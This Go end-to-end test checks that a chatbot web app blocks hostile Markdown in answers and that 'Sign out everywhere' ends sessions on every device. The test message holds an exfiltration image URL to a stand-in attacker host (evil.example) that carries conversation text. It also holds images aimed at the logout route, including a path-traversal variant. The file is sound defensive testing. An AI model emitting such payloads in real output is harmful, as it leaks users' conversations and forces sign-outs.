package e2e

import (
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/coze2app/coze2app/internal/cozesim"
)

// goSignIn signs a second "device" in through the demo's consent page with a
// plain HTTP client and returns it.
func goSignIn(t *testing.T, base, user string) *http.Client {
	t.Helper()
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar, Timeout: 20 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	hop := func(target string) *url.URL {
		t.Helper()
		res, err := c.Get(target)
		if err != nil {
			t.Fatalf("GET %s: %v", target, err)
		}
		res.Body.Close()
		loc, err := res.Location()
		if res.StatusCode != http.StatusFound || err != nil {
			t.Fatalf("GET %s = %d, want 302", target, res.StatusCode)
		}
		return loc
	}
	cb, err := cozesim.Consent(t.Context(), c, hop(base+"/auth").String(), user, "approve")
	if err != nil {
		t.Fatal(err)
	}
	hop(cb)
	return c
}

func goAuthenticated(t *testing.T, c *http.Client, base string) bool {
	t.Helper()
	res, err := c.Get(base + "/api/auth/status")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return strings.Contains(string(b), `"authenticated":true`)
}

// Catalog cases 76 and 77 (issue 8 items 6 and 7) in Chromium: an answer's
// images load only from the allowed sources (the simulator's assets in demo
// mode); any other https image is a placeholder naming its host with a
// "Load" button that opens it in a new tab; an image or link to an app route
// is never requested, so ![](/api/auth/logout) signs no one out. No CSP
// violation occurs, because the page never asks for a refused image.
// Then case 78: "Sign out everywhere" ends this browser's session and the
// same person's session on another device.
func TestCase76_AnswerImages(t *testing.T) {
	b := mustStartBrowser(t)
	base := mustStartApp(t, map[string]string{"COZE2APP_SIM_DELTA_DELAY": "5ms"})

	b.do("open /", chromedp.Navigate(base+"/"), chromedp.WaitVisible(chromedp.CSS("#signin")))
	b.click("#signin")
	b.click("#approve")
	b.do("bot list", chromedp.WaitVisible(chromedp.CSS(".bot-item")))
	b.setInput("#workspace-select", cozesim.WorkspaceTeam)
	b.click(fmt.Sprintf(`.bot-item[data-bot-id="%s"]`, cozesim.BotMemory))
	waitFor[bool](b, "composer enabled", `!document.querySelector('#composer').disabled`, 10*time.Second)

	msg := "look: ![leak](https://evil.example/leak.png?q=the+conversation) " +
		"![out](/api/auth/logout) ![dots](/_sim/assets/../../api/auth/logout) " +
		"![ok](/_sim/assets/diagram.svg) [home](" + base + "/api/auth/logout) " +
		"![plain](http://evil.example/x.png)"
	b.send(msg)
	if st := waitFor[string](b, "reply", jsReplyDone, 30*time.Second); st != "complete" {
		t.Fatalf("reply status = %q", st)
	}
	waitFor[bool](b, "allowed image loaded", jsLastReply+`.querySelector('img[src$="/_sim/assets/diagram.svg"]')?.complete === true`, 10*time.Second)

	type report struct {
		Srcs        []string `json:"srcs"`
		Hrefs       []string `json:"hrefs"`
		Hosts       []string `json:"hosts"`
		Loaded      bool     `json:"loaded"`
		Signed      bool     `json:"signed"`
		CSP         []string `json:"csp"`
		Resources   []string `json:"resources"`
		Placeholder string   `json:"placeholder"`
	}
	r := eval[report](b, `(async () => {
		const m = `+jsLastReply+`;
		const st = await fetch('/api/auth/status').then(r => r.json());
		const ok = m.querySelector('img[src$="/_sim/assets/diagram.svg"]');
		return {
			srcs: [...document.querySelectorAll('.msg img')].map(i => i.getAttribute('src')),
			hrefs: [...m.querySelectorAll('a[href]')].map(a => a.getAttribute('href')),
			hosts: [...m.querySelectorAll('.img-blocked')].map(p => p.dataset.host + (p.querySelector('button.img-load') ? '+load' : '')),
			loaded: !!ok && ok.naturalWidth > 0,
			signed: st.authenticated === true,
			csp: window.__csp,
			resources: performance.getEntriesByType('resource').map(e => e.name).filter(n => n.includes('evil') || n.includes('/api/auth/logout')),
			placeholder: (m.querySelector('.img-blocked') || {}).textContent || '',
		};
	})()`)
	if !r.Signed {
		t.Fatal("the viewer was signed out by an answer")
	}
	for _, s := range r.Srcs {
		if strings.Contains(s, "evil") || strings.Contains(s, "/api/") {
			t.Errorf("an answer image points at %q", s)
		}
	}
	for _, h := range r.Hrefs {
		if strings.Contains(h, "/api/") {
			t.Errorf("an answer link points at an app route: %q", h)
		}
	}
	if strings.Join(r.Hosts, ",") != "evil.example+load" {
		t.Errorf("placeholders = %q, want one for evil.example with a Load button (http images and app routes get none)", r.Hosts)
	}
	if !strings.Contains(r.Placeholder, "evil.example") || !strings.Contains(r.Placeholder, "leak") {
		t.Errorf("placeholder text %q does not name the host and keep the alt text", r.Placeholder)
	}
	if !r.Loaded {
		t.Error("the image from an allowed source did not load")
	}
	if len(r.Resources) > 0 {
		t.Errorf("the browser requested %q", r.Resources)
	}
	if len(r.CSP) > 0 || len(b.cspViolations()) > 0 {
		t.Errorf("CSP violations: %q %q", r.CSP, b.cspViolations())
	}

	// "Load" opens the image in a new tab, never in the page.
	opened := eval[string](b, `(() => { let u = ''; window.open = (x) => { u = x; return null; };
		`+jsLastReply+`.querySelector('.img-blocked button.img-load').click(); return u; })()`)
	if opened != "https://evil.example/leak.png?q=the+conversation" {
		t.Errorf("Load opened %q", opened)
	}

	// Case 78: Sign out everywhere, with a second device of the same person.
	phone := goSignIn(t, base, cozesim.UserAlan)
	if !goAuthenticated(t, phone, base) {
		t.Fatal("second device not signed in")
	}
	b.click("#signout-everywhere")
	b.click("#confirm-dialog .dialog-confirm")
	b.do("sign-in page", chromedp.WaitVisible(chromedp.CSS("#signin")))
	if goAuthenticated(t, phone, base) {
		t.Error("the other device is still signed in after Sign out everywhere")
	}
}
